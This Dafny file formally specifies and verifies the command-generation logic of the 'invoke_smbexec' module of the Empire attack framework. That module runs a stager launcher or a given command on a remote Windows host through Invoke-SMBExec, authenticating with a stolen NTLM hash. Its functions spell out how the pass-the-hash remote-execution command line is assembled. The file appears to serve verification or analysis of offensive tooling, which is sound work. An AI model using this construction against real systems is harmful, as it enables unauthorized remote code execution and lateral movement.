/** `invoke_smbexec`: runs a stager launcher, or a given command, on a remote
    host through `Invoke-SMBExec` with a user name and an NTLM hash. */
module InvokeSmbExec {
  import opened Wrappers
  import opened Text
  import opened ModuleModels

  /** The option keys `generate` reads by indexing; `OutputFunction` is read
      with a default. */
  const ReadKeys: set<string> := {"Listener", "Command", "ComputerName", "Username", "Hash", "Domain", "Service",
    "UserAgent", "Proxy", "ProxyCreds", "Obfuscate", "ObfuscateCommand", "Bypasses"}

  const LauncherFailed: string := "[!] Error in launcher generation."

  const CmdStart: string := "%COMSPEC% /C start /b "
  const PowerShellDir: string := "C:\\Windows\\System32\\WindowsPowershell\\v1.0\\"

  /** `if err:`: a present, non-empty error. */
  predicate SourceFailed(fetched: SourceFetch) {
    fetched.err.Some? && fetched.err.value != []
  }

  /** `params.get("OutputFunction", "Out-String")`. */
  function OutputFunction(params: map<string, string>): (r: string)
    ensures "OutputFunction" !in params ==> r == "Out-String"
    ensures "OutputFunction" in params ==> r == params["OutputFunction"]
  {
    if "OutputFunction" in params then params["OutputFunction"] else "Out-String"
  }

  /** The last `/`-segment of a module name. */
  function ModuleLeaf(name: string): string {
    Last(Split(name, "/"))
  }

  lemma {:induction false} JoinEndsWithLast(parts: seq<string>, sep: string)
    requires |parts| >= 1
    ensures EndsWith(Join(parts, sep), Last(parts))
  {
    if |parts| > 1 {
      JoinEndsWithLast(parts[1..], sep);
      var j := Join(parts[1..], sep);
      assert Last(parts[1..]) == Last(parts);
      assert Join(parts, sep) == (parts[0] + sep) + j;
      var pre := parts[0] + sep;
      assert (pre + j)[|pre + j| - |Last(parts)|..] == j[|j| - |Last(parts)|..];
    }
  }

  /** The leaf holds no `/` and is what the module name ends with. */
  lemma ModuleLeafShape(name: string)
    ensures '/' !in ModuleLeaf(name)
    ensures EndsWith(name, ModuleLeaf(name))
    ensures '/' !in name ==> ModuleLeaf(name) == name
  {
    var parts := Split(name, "/");
    SplitCharFree(name, '/');
    assert parts[|parts| - 1] in parts;
    JoinSplit(name, "/");
    JoinEndsWithLast(parts, "/");
    if '/' !in name {
      SplitAuxNoSeparator(name, '/', []);
      assert [] + name == name;
    }
  }

  /** The `Invoke-SMBExec` call: target, user, domain, hash, then the command
      line in single quotes. */
  function SmbExecCall(target: string, userName: string, domain: string, hash: string, cmd: string): string {
    "Invoke-SMBExec -Target " + target + " -Username " + userName + " -Domain " + domain + " -Hash " + hash
    + " -Command '" + cmd + "'"
  }

  function CompletedReport(leaf: string): string {
    "%{$_ + \"`n\"};\"`n" + leaf + " completed!\""
  }

  /** The trailer handed to `finalize_module` as `script_end`. */
  function ScriptEnd(params: map<string, string>, moduleName: string, cmd: string): string
    requires {"ComputerName", "Username", "Domain", "Hash"} <= params.Keys
  {
    SmbExecCall(params["ComputerName"], params["Username"], params["Domain"], params["Hash"], cmd)
    + " | " + OutputFunction(params) + " | " + CompletedReport(ModuleLeaf(moduleName))
  }

  /** The trailer opens with the call, pipes its output through the output
      function and closes with the module's leaf name. */
  lemma ScriptEndShape(params: map<string, string>, moduleName: string, cmd: string)
    requires {"ComputerName", "Username", "Domain", "Hash"} <= params.Keys
    ensures var call := SmbExecCall(params["ComputerName"], params["Username"], params["Domain"], params["Hash"], cmd);
      StartsWith(ScriptEnd(params, moduleName, cmd), call + " | " + OutputFunction(params) + " | ")
    ensures EndsWith(ScriptEnd(params, moduleName, cmd), ModuleLeaf(moduleName) + " completed!\"")
  {
    var call := SmbExecCall(params["ComputerName"], params["Username"], params["Domain"], params["Hash"], cmd);
    var head := call + " | " + OutputFunction(params) + " | ";
    var leaf := ModuleLeaf(moduleName);
    var s := ScriptEnd(params, moduleName, cmd);
    assert s == head + CompletedReport(leaf);
    assert s[..|head|] == head;
    var tail := leaf + " completed!\"";
    assert CompletedReport(leaf) == "%{$_ + \"`n\"};\"`n" + tail;
    assert s == (head + "%{$_ + \"`n\"};\"`n") + tail;
    assert s[|s| - |tail|..] == tail;
  }

  /** The command line: on the listener path the PowerShell directory
      followed by the launcher, on the command path the command as given. */
  function ListenerCmd(launcher: string): (r: string)
    ensures StartsWith(r, CmdStart) && r[|CmdStart|..] == PowerShellDir + launcher
  {
    var r := CmdStart + PowerShellDir + launcher;
    assert r == CmdStart + (PowerShellDir + launcher);
    r
  }

  function CommandCmd(command: string): (r: string)
    ensures StartsWith(r, CmdStart) && r[|CmdStart|..] == command
  {
    CmdStart + command
  }

  /** What `generate` returns; `params` is only read. */
  function Generation(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string): Result<string>
    requires ReadKeys <= params.Keys
  {
    var listener := params["Listener"];
    var command := params["Command"];
    var fetched := menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand);
    if SelectionError(listener, command).Some? then Err(SelectionError(listener, command).value)
    else if SourceFailed(fetched) then Err(fetched.err.value)
    else if !menu.isListenerValid(listener) && command == "" then Err(InvalidListener(listener))
    else if listener != "" then
      var launcher := menu.generateLauncher(LauncherRequestFor(params, listener));
      if launcher == "" then Err(LauncherFailed)
      else Ok(menu.finalizeModule(fetched.script, ScriptEnd(params, empireModule.name, ListenerCmd(launcher)),
        obfuscate, obfuscationCommand))
    else Ok(menu.finalizeModule(fetched.script, ScriptEnd(params, empireModule.name, CommandCmd(command)),
      obfuscate, obfuscationCommand))
  }

  /** `Module.generate`. */
  method Generate(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string) returns (r: Result<string>)
    requires ReadKeys <= params.Keys
    ensures r == Generation(menu, empireModule, params, obfuscate, obfuscationCommand)
  {
    var listenerName := params["Listener"];
    var command := params["Command"];
    var computerName := params["ComputerName"];
    var userName := params["Username"];
    var ntlmHash := params["Hash"];
    var domain := params["Domain"];
    var userAgent := params["UserAgent"];
    var proxy := params["Proxy"];
    var proxyCreds := params["ProxyCreds"];
    var launcherObfuscate: bool;
    if Lower(params["Obfuscate"]) == "true" {
      launcherObfuscate := true;
    } else {
      launcherObfuscate := false;
    }
    var launcherObfuscateCommand := params["ObfuscateCommand"];

    if listenerName == "" && command == "" {
      return Err(ListenerOrCommandRequired);
    }
    if listenerName != "" && command != "" {
      return Err(ListenerAndCommandExclusive);
    }

    var fetched := menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand);
    var script := fetched.script;
    if fetched.err.Some? && fetched.err.value != "" {
      return Err(fetched.err.value);
    }

    var cmd: string;
    if !menu.isListenerValid(listenerName) && command == "" {
      return Err(InvalidListener(listenerName));
    } else if listenerName != "" {
      var launcher := menu.generateLauncher(LauncherRequest(listenerName, "powershell", true, launcherObfuscate,
        launcherObfuscateCommand, userAgent, proxy, proxyCreds, params["Bypasses"]));
      if launcher == "" {
        return Err(LauncherFailed);
      }
      cmd := ListenerCmd(launcher);
    } else {
      cmd := CommandCmd(command);
    }

    var scriptEnd := SmbExecCall(computerName, userName, domain, ntlmHash, cmd);
    var outputf := OutputFunction(params);
    scriptEnd := scriptEnd + " | " + outputf + " | " + CompletedReport(ModuleLeaf(empireModule.name));

    script := menu.finalizeModule(script, scriptEnd, obfuscate, obfuscationCommand);
    return Ok(script);
  }

  /** The selection errors come first, whatever the oracles answer. */
  lemma SelectionErrors(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string)
    requires ReadKeys <= params.Keys
    ensures var r := Generation(menu, empireModule, params, obfuscate, obfuscationCommand);
      (params["Listener"] == [] && params["Command"] == [] ==> r == Err(ListenerOrCommandRequired)) &&
      (params["Listener"] != [] && params["Command"] != [] ==> r == Err(ListenerAndCommandExclusive))
  {
  }

  /** A failed source fetch is reported as is, before the listener and
      launcher oracles are asked: replacing them changes nothing. */
  lemma SourceErrorFirst(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string, isListenerValid: string -> bool, generateLauncher: LauncherRequest -> string)
    requires ReadKeys <= params.Keys
    requires SelectionError(params["Listener"], params["Command"]).None?
    requires SourceFailed(menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand))
    ensures Generation(menu, empireModule, params, obfuscate, obfuscationCommand)
      == Err(menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand).err.value)
    ensures Generation(menu.(isListenerValid := isListenerValid, generateLauncher := generateLauncher), empireModule,
      params, obfuscate, obfuscationCommand) == Generation(menu, empireModule, params, obfuscate, obfuscationCommand)
  {
  }

  /** A script is produced exactly when one of listener and command is given,
      the source is fetched, and either a command is given or the listener is
      known and its launcher is not empty. */
  lemma SucceedsIff(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string)
    requires ReadKeys <= params.Keys
    ensures var listener := params["Listener"];
      var command := params["Command"];
      Generation(menu, empireModule, params, obfuscate, obfuscationCommand).Ok? <==>
        SelectionError(listener, command).None? &&
        !SourceFailed(menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand)) &&
        (command != [] || (menu.isListenerValid(listener) && menu.generateLauncher(LauncherRequestFor(params, listener)) != []))
  {
  }

  /** After the selection and the source fetch, an unknown listener is
      reported exactly when no command was given, and on the listener path an
      empty launcher is the only launcher failure. */
  lemma ListenerChecks(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string)
    requires ReadKeys <= params.Keys
    requires SelectionError(params["Listener"], params["Command"]).None?
    requires !SourceFailed(menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand))
    ensures var r := Generation(menu, empireModule, params, obfuscate, obfuscationCommand);
      (r == Err(InvalidListener(params["Listener"])) <==> !menu.isListenerValid(params["Listener"]) && params["Command"] == []) &&
      (params["Listener"] != [] && menu.isListenerValid(params["Listener"]) ==>
        (r == Err(LauncherFailed) <==> menu.generateLauncher(LauncherRequestFor(params, params["Listener"])) == []))
  {
    assert InvalidListener(params["Listener"])[4] == 'I' && LauncherFailed[4] == 'E';
  }

  /** On success the fetched module source is finalised with the trailer
      built around the path's command line, and returned verbatim. */
  lemma SuccessScript(menu: MainMenu, empireModule: EmpireModule, params: map<string, string>, obfuscate: bool,
    obfuscationCommand: string)
    requires ReadKeys <= params.Keys
    requires Generation(menu, empireModule, params, obfuscate, obfuscationCommand).Ok?
    ensures var fetched := menu.getModuleSource(empireModule.scriptPath, obfuscate, obfuscationCommand);
      var listener := params["Listener"];
      var cmd := if listener != [] then ListenerCmd(menu.generateLauncher(LauncherRequestFor(params, listener)))
        else CommandCmd(params["Command"]);
      Generation(menu, empireModule, params, obfuscate, obfuscationCommand).value
        == menu.finalizeModule(fetched.script, ScriptEnd(params, empireModule.name, cmd), obfuscate, obfuscationCommand)
  {
  }
}
